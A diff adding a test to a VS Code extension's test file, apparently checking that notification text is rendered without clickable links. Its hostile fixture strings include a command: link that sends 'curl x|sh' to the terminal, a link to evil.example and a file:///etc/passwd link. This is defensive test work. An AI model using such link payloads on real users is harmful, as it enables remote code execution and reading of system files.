@@ -10,6 +10,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import * as vscode from 'vscode';
 import { CatalogService } from '../../src/extension/catalog-service';
+import { plainMessage } from '../../src/extension/message-text';
 import {
   PANEL_BODY_CHARS, RESPONSE_EDITOR_LANGUAGES, RunPanels, newNonce, openResponseInEditor, panelHtml, panelMessage, parsePanelRequest, responseLanguage,
   restoredDefinition, resultFileName, webviewHtml, recipeText,
@@ -260,6 +261,26 @@ describe('run panel: copy recipe', () => {
       diagnostics: [],
     });
     assert.equal(text, 'Webhook "Enrich": 429 Too Many Requests: slow down\nError Type (Webhook is Called): Too Many Requests\n\nWait and call again.\n\n1. Add a Wait step.\n2. Call Webhook again.\n');
+  });
+});
+
+/** VS Code 1.100's pattern for links in notification and input box text (src/vs/base/common/linkedText.ts). */
+const VSCODE_LINKED_TEXT = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
+
+describe('notifications: quoted text makes no link', () => {
+  it('quote hostile text without making a link VS Code would follow', () => {
+    const hostile = [
+      'cannot open [Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
+      '[a](https://evil.example/ "title") and [b](file:///etc/passwd) [c](COMMAND:x)',
+      '[x](command:a) [y](command:b "title") [[z](command:c)',
+    ];
+    for (const text of hostile) {
+      assert.ok([...text.matchAll(VSCODE_LINKED_TEXT)].length > 0, `the oracle finds no link in ${text}`);
+      const shown = plainMessage(text);
+      assert.deepEqual([...shown.matchAll(VSCODE_LINKED_TEXT)], [], shown);
+      assert.equal(shown.replace(/\] \(/g, ']('), text, 'only the link syntax is changed');
+    }
+    assert.equal(plainMessage('cannot read x.lead.json (no such file)'), 'cannot read x.lead.json (no such file)');
   });
 });
 
